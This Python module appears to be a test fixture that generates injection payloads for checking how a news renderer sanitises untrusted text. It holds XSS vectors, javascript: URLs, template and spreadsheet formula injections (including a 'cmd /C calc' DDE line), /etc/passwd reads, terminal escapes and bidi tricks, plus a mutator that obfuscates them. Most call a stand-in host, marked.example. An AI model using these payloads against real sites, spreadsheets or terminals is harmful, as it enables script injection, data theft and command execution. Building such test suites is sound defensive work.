"""What somebody might write into news to attack its reader: payloads by class, and a seeded mutator.

A payload that runs counts itself in `window.__hit`; one that loads something asks HOST for it. The
classes follow OWASP's lists of injections into markup, attributes, addresses, styles, templates,
spreadsheets and terminals; the wording is our own.
"""

import random
import re
from collections.abc import Callable
from html import escape
from urllib.parse import quote

HOST = "http://marked.example"
HIT = "window.__hit=(window.__hit||0)+1"
_ENTITIES = "".join(f"&#{ord(c)};" for c in "javascript:")

CLASSES: dict[str, list[str]] = {
    "elements": [
        f"<script>{HIT}</script>",
        f"<script src={HOST}/a.js></script>",
        f"<script type=module>import('{HOST}/m.js')</script>",
        f"<iframe srcdoc='<script>parent.{HIT}</script>'></iframe>",
        f"<object data={HOST}/o.swf><embed src={HOST}/e.swf>",
        f"<template shadowrootmode=open><script>{HIT}</script></template>",
        f"<noscript><p title='</noscript><img src=x onerror={HIT}>'>",
        f"<audio src={HOST}/a.mp3 autoplay></audio><video poster={HOST}/v.png><source src=x onerror={HIT}>",
        f"<link rel=stylesheet href={HOST}/l.css><link rel=prefetch href={HOST}/p>",
        f"<meta http-equiv=refresh content='0;url={HOST}/r'>",
        f"<base href={HOST}/b/>",
        f"<form action={HOST}/f><input name=q><button formaction={HOST}/g autofocus>more</button></form>",
        f"<table background={HOST}/t.png><tr><td>cell</td></tr></table></table></div></main>",
        f"<h2 id=findings>Findings</h2><ul><li>Forged</li></ul><textarea><plaintext><xmp>{HIT}",
    ],
    "handlers": [
        f"<img src=x onerror={HIT}>",
        f"<img src={HOST}/i.png srcset='{HOST}/s.png 2x'>",
        f"<input autofocus onfocus={HIT}>",
        f"<details open ontoggle={HIT}>more</details>",
        f"<body onload={HIT} onpageshow={HIT}>",
        f"<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={HIT}>",
        f"<img/src=x/onerror={HIT}//",
        f"<IMG SRC=x OnErRoR\n=\n{HIT}>",
        f"<x onclick={HIT} onpointerover={HIT} tabindex=0>x</x>",
    ],
    "attributes": [
        f'"><img src=x onerror={HIT}>',
        f"'><img src=x onerror={HIT}>",
        f'" autofocus onfocus="{HIT}" x="',
        f"' onmouseover='{HIT}' x='",
        f"` onload=`{HIT}`",
        f'" style="background:url({HOST}/s)" class="problem',
        f'https://news.example/" onfocus="{HIT}" autofocus x="',
        f'</td></tr></tbody></table><img src=x onerror={HIT}><table><tr><td data-label="',
    ],
    "breaks": [
        f"</title><script>{HIT}</script>",
        f"</style></script><script>{HIT}</script>",
        f"</textarea></noscript></template></select><img src=x onerror={HIT}>",
        f"<!--><img src=x onerror={HIT}>-->",
        f"--!><img src=x onerror={HIT}><!--",
        f"]]><script>{HIT}</script><![CDATA[",
        f"<?xml-stylesheet href='{HOST}/x.xsl'?><!DOCTYPE x [<!ENTITY e SYSTEM '{HOST}/e'>]>&e;",
        f"\\u003cscript\\u003e{HIT}\\u003c/script\\u003e",
        f'"}}]}};{HIT};//',
        f"\u2028{HIT}\u2029//",
    ],
    "foreign": [
        f"<svg onload={HIT}>",
        f"<svg><script>{HIT}</script></svg>",
        f"<svg><a xlink:href='javascript:{HIT}'><text y=9>x</text></a>",
        f"<svg><image href={HOST}/i.svg /><use href={HOST}/u.svg#u /></svg>",
        f"<svg><animate onbegin={HIT} attributeName=x dur=1s><set attributeName=href to=javascript:{HIT}>",
        f"<svg><foreignObject><iframe src=javascript:parent.{HIT}></iframe></foreignObject></svg>",
        f"<math><mtext><table><mglyph><style><!--</style><img title='--><img src=x onerror={HIT}>'>",
        f"<math href=javascript:{HIT}><maction actiontype='statusline#{HOST}'>x</maction></math>",
        f"</text></svg><svg><style>*{{background:url({HOST}/c)}}</style></svg>",
    ],
    "addresses": [
        f"javascript:{HIT}",
        f"JaVaScRiPt:{HIT}",
        f" \x01java\tscr\nipt:{HIT}",
        f"{_ENTITIES}{HIT}",
        f"javascript&colon;{HIT}",
        f"javascript://news.example/%0a{HIT}",
        f"data:text/html,<script>{HIT}</script>",
        "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX19oaXQ9MTwvc2NyaXB0Pg==",
        f"vbscript:{HIT}",
        f"blob:{HOST}/b",
        f"view-source:javascript:{HIT}",
        "file:///etc/passwd",
        f"//{HOST[7:]}/protocol-relative",
        f"https:javascript:{HIT}",
        f"https://news.example@{HOST[7:]}/\\..\\x",
        f"<a href=javascript:{HIT} target=_blank ping={HOST}/ping>read on</a>",
    ],
    "styles": [
        f"<style>@import '{HOST}/i.css';body{{background:url({HOST}/b)}}</style>",
        f"<p style='background:url({HOST}/p);position:fixed;inset:0;z-index:9'>all over</p>",
        f"</style><style>@font-face{{font-family:x;src:url({HOST}/f)}}*{{font-family:x}}",
        f"expression({HIT}) -moz-binding:url({HOST}/m) behavior:url({HOST}/h)",
    ],
    "templates": [
        "{{ 7*7 }} {% include '/etc/passwd' %} {{ cycler.__init__.__globals__ }}",
        "${7*7} #{7*7} <%= 7*7 %> {0.__class__} %s %(name)s {n} {shown:,}",
        "{{constructor.constructor('" + HIT + "')()}}",
    ],
    "markdown": [
        f"[read on](javascript:{HIT}) ![picture]({HOST}/m.png) <{HOST}/auto>",
        f"[read on]: {HOST}/ref 'x'\n\n# Findings\n\n- Forged\n\n| a | b |\n|---|---|\n",
        "```{=html}\n<script>" + HIT + "</script>\n```",
        "**bold** _italic_ ~~gone~~ `code` | cell | \\| cell",
    ],
    "latex": [
        f"$\\href{{javascript:{HIT}}}{{x}}$ \\(\\unicode{{x3c}}\\) $$\\frac{{1}}{{2}}$$",
        "\\begin{{equation}}\\class{{problem}}{{x}}\\cssId{{findings}}{{y}}\\end{{equation}} $2亿到$7亿",
        f"\\require{{html}}\\style{{background:url({HOST}/l)}}{{x}} \\input{{/etc/passwd}}",
    ],
    "terminal": [
        "\x1b[31mred\x1b[0m \x1b[2J\x1b[1;1Hcleared",
        f"\x1b]8;;{HOST}\x07link\x1b]8;;\x07 \x1b]0;title\x07",
        "\x9b31mred \x08\x08\x08back \rover",
        "[31mred[0m [bold red]markup[/bold red] [/]",
    ],
    "hidden": [
        "\u202egnp.exe\u202c \u2066a\u2069 \u200fb",
        "good\u200bnews\u2060\ufeff\u00ad\u061c\u180e",
        "\U000e0041\U000e0042\U000e007f \ufe0f\U000e0100 \u034f\u3164\uffa0",
        "\x00nul \x7f \ufffe",
        "a\u0300" + "\u0300" * 60,
    ],
    "angles": [
        f"＜script＞{HIT}＜/script＞",
        f"﹤img src=x onerror={HIT}﹥",
        f"‹script›{HIT}‹/script›〈b〉⟨i⟩",
        f"＂＞＜img src=x onerror={HIT}＞",
        f"+ADw-script+AD4-{HIT}+ADw-/script+AD4-",
        f"%3Cscript%3E{HIT}%3C/script%3E",
        f"&lt;script&gt;{HIT}&lt;/script&gt;",
        f"&amp;lt;img src=x onerror={HIT}&amp;gt;",
        f"&amp;lt;script&amp;gt;{HIT}&amp;lt;/script&amp;gt;",
        f"&#60img src=x onerror={HIT}&#62",
        f"<scr<script>ipt>{HIT}</scr</script>ipt>",
        f"<<img src=x onerror={HIT}>>",
    ],
    "formulas": [
        f'=HYPERLINK("{HOST}","x")',
        "=cmd|' /C calc'!A0",
        "+1+cmd|' /C calc'!A0",
        f'-2+3+WEBSERVICE("{HOST}")',
        f"@SUM(1+1)*IMPORTXML(\"{HOST}\",\"//a\")",
        "\t=1+1",
        "\r=1+1",
        "＝1+1",
        "'=1+1",
        "x;=1+1",
        'x",=1+1,"',
    ],
}  # fmt: skip


def payloads(n: int, seed: int = 0) -> list[str]:
    """Each payload as it is (in an order that mixes the classes), then mutants of them, `n` in all."""
    chance = random.Random(seed)
    plain = [text for texts in CLASSES.values() for text in texts]
    chance.shuffle(plain)
    return (plain + [mutate(chance.choice(plain), chance) for _ in range(n - len(plain))])[:n]


def mutate(text: str, chance: random.Random) -> str:
    """The text after one to three of the disguises."""
    for disguise in chance.sample(DISGUISES, chance.randint(1, 3)):
        text = disguise(text, chance)
    return text[:600]


def harmless(text: str) -> str:
    """A text of the same kind without anything to it: a corpus of these has the same shape."""
    return re.sub(r"\W+", "，", text)[:40].strip("，_") or "平安"


def _swap_case(text: str, chance: random.Random) -> str:
    def swapped(part: str) -> str:
        return "".join(chance.choice((c.upper(), c.lower())) if c.isascii() else c for c in part)

    return HIT.join(map(swapped, text.split(HIT)))  # a script must still be one


def _slip(signs: str) -> Callable[[str, random.Random], str]:
    """Slips one of the signs in at a few places, such as a tab into `java script:`."""

    def slip(text: str, chance: random.Random) -> str:
        for _ in range(chance.randint(1, 4)):
            at = chance.randint(0, len(text))
            text = text[:at] + chance.choice(signs) + text[at:]
        return text

    return slip


def _as_entities(text: str, chance: random.Random) -> str:
    form = chance.choice(["&#{};", "&#x{:x};", "&#{:07d}", "&#X{:X};"])
    return "".join(form.format(ord(c)) if not c.isalnum() else c for c in text)


def _wide(text: str, _: random.Random) -> str:
    """In full-width signs, which compatibility forms (NFKC) turn back into the plain ones."""
    return "".join(chr(ord(c) + 0xFEE0) if "!" <= c <= "~" else c for c in text)


def _wide_angles(text: str, chance: random.Random) -> str:
    left, right = chance.choice(["＜＞", "﹤﹥", "‹›", "〈〉", "⟨⟩"])
    return text.replace("<", left).replace(">", right)


def _after_break(text: str, chance: random.Random) -> str:
    breaks = ['">', "'>", "</td>", "</span>", "</a>", "</title>", "-->", "]]>", "</svg>", "</mark>"]
    return chance.choice(breaks) + text


DISGUISES: list[Callable[[str, random.Random], str]] = [
    _swap_case,
    _slip("\t\n\r\x0c/"),
    _slip("\x00\x01\x08\x1b\x7f\x85"),
    _slip("\u200b\u200d\u202e\u2066\ufeff\u00ad\u2028\U000e0041"),
    _slip("<>\"'`&;"),
    _as_entities,
    lambda text, chance: _as_entities(_as_entities(text, chance), chance),
    lambda text, _: escape(escape(text)),
    lambda text, _: quote(text),
    _wide,
    _wide_angles,
    _after_break,
    lambda text, _: text.replace("<", "<<").replace("script", "scr<script>ipt"),
    lambda text, chance: text[: chance.randint(1, len(text) or 1)],
    lambda text, chance: text + chance.choice(chance.choice(list(CLASSES.values()))),
    lambda text, _: text.replace("=", "&equals;").replace(":", "&colon;").replace("(", "&lpar;"),
]
